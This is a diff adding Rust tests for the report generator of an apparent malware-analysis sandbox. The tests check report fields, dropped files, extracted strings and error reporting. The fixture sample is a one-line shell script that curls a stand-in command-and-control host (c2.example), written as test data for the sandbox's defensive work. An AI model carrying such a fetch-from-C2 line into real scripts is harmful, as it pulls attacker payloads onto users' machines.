@@ -1,0 +1,136 @@
+use std::fs;
+
+use serde_json::json;
+use store::sandbox::{Category, Guest, Sample, Stamp, Status};
+
+use super::*;
+use crate::results::Analyses;
+
+fn task(sample: Option<Sample>) -> Task {
+    let guest = Guest {
+        id: 1,
+        task_id: 7,
+        status: "stopped".into(),
+        name: "linux1".into(),
+        label: "linux-1".into(),
+        manager: "QEMU".into(),
+        started_on: Stamp(1_932_884_405_000_000),
+        shutdown_on: Some(Stamp(1_932_884_409_500_000)),
+    };
+    Task {
+        id: 7,
+        category: if sample.is_some() { Category::File } else { Category::Url },
+        target: if sample.is_some() { "/uploads/7/demo.sh".into() } else { "http://x.example/".into() },
+        machine: None,
+        package: Some("shell".into()),
+        options: Some("route=drop".into()),
+        timeout: 0,
+        priority: 1,
+        custom: None,
+        owner: "ada".into(),
+        platform: Some("linux".into()),
+        tags: Vec::new(),
+        memory: false,
+        enforce_timeout: false,
+        clock: Stamp(0),
+        added_on: Stamp(1_932_884_400_000_000),
+        started_on: Some(Stamp(1_932_884_405_000_000)),
+        completed_on: Some(Stamp(1_932_884_410_000_000)),
+        status: Status::Completed,
+        sample_id: sample.as_ref().map(|sample| sample.id),
+        sample,
+        guest: Some(guest),
+        errors: vec!["no screenshots".into()],
+        processing: None,
+        route: Some("drop".into()),
+        duration: 4,
+        submit_id: None,
+    }
+}
+
+fn read(folder: &Folder) -> Json {
+    serde_json::from_reader(folder.file(REPORT).unwrap()).unwrap()
+}
+
+#[tokio::test]
+async fn a_report_has_all_that_consumers_index() {
+    let dir = tempfile::tempdir().unwrap();
+    let samples = Samples::open(dir.path()).unwrap();
+    let mut receiving = samples.receive(1000);
+    receiving.push(bytes::Bytes::from_static(b"#!/bin/sh\ncurl http://c2.example/p\n")).await.unwrap();
+    let received = receiving.finish().await.unwrap();
+    let sample = Sample { id: 3, digests: received.digests.clone() };
+    samples.keep(received).unwrap();
+    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
+    let at = |name: &str| folder.path().join(name);
+    fs::write(at("files/0123456789abcdef_x.txt"), "dropped").unwrap();
+    fs::write(
+        at("files.json"),
+        "{\"path\":\"files/0123456789abcdef_x.txt\",\"filepath\":\"/tmp/x.txt\",\"pids\":[44]}\nbroken\n",
+    )
+    .unwrap();
+    fs::write(at("shots/0001.jpg"), "picture").unwrap();
+    fs::write(at("analysis.log"), b"one\ntwo \xff\n").unwrap();
+    let task = task(Some(sample));
+    assert_eq!(process(&Case { task: &task, folder: &folder, samples: &samples }).unwrap(), [""; 0]);
+    let report = read(&folder);
+    let keys: Vec<&String> = report.as_object().unwrap().keys().collect();
+    assert_eq!(
+        keys,
+        [
+            "info",
+            "target",
+            "behavior",
+            "network",
+            "dropped",
+            "screenshots",
+            "strings",
+            "metadata",
+            "signatures",
+            "debug"
+        ]
+    );
+    let info = &report["info"];
+    assert_eq!((&info["started"], &info["ended"]), (&json!(1_932_884_405.0), &json!(1_932_884_410.0)));
+    assert_eq!(
+        (&info["score"], &info["duration"], &info["machine"]["manager"]),
+        (&json!(0.0), &json!(4), &json!("QEMU"))
+    );
+    assert_eq!(info["machine"]["shutdown_on"], "2031-04-02 08:20:09");
+    let file = &report["target"]["file"];
+    assert_eq!((&file["name"], &file["path"]), (&json!("demo.sh"), &json!("analyses/7/binary")));
+    assert_eq!(file["urls"], json!(["http://c2.example/p"]));
+    for key in ["processes", "processtree", "generic"] {
+        assert_eq!(report["behavior"][key], json!([]), "{key}");
+    }
+    let dropped = &report["dropped"][0];
+    assert_eq!((&dropped["filepath"], &dropped["pids"]), (&json!("/tmp/x.txt"), &json!([44])));
+    assert_eq!(dropped["path"], "analyses/7/files/0123456789abcdef_x.txt");
+    assert_eq!(report["screenshots"], json!([{"path": "analyses/7/shots/0001.jpg", "ocr": ""}]));
+    assert_eq!(report["strings"], json!(["#!/bin/sh", "curl http://c2.example/p"]));
+    assert_eq!(
+        (&report["debug"]["log"], &report["debug"]["errors"]),
+        (&json!(["one", "two \\xff"]), &json!(["no screenshots"]))
+    );
+    assert_eq!(report["metadata"]["output"]["dropped"][0]["dirname"], "files");
+}
+
+#[test]
+fn a_part_that_fails_is_named_and_the_others_are_there() {
+    let dir = tempfile::tempdir().unwrap();
+    let samples = Samples::open(dir.path()).unwrap();
+    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
+    fs::write(folder.path().join("dump.pcap"), "this is no capture, whatever its name says").unwrap();
+    let task = task(None);
+    let errors = process(&Case { task: &task, folder: &folder, samples: &samples }).unwrap();
+    assert_eq!(errors, ["processing of network failed: this is no capture"]);
+    let report = read(&folder);
+    assert_eq!(
+        (&report["network"]["http"], &report["target"]["url"]),
+        (&json!([]), &json!("http://x.example/"))
+    );
+    assert_eq!(
+        report["debug"]["errors"],
+        json!(["no screenshots", "processing of network failed: this is no capture"])
+    );
+}
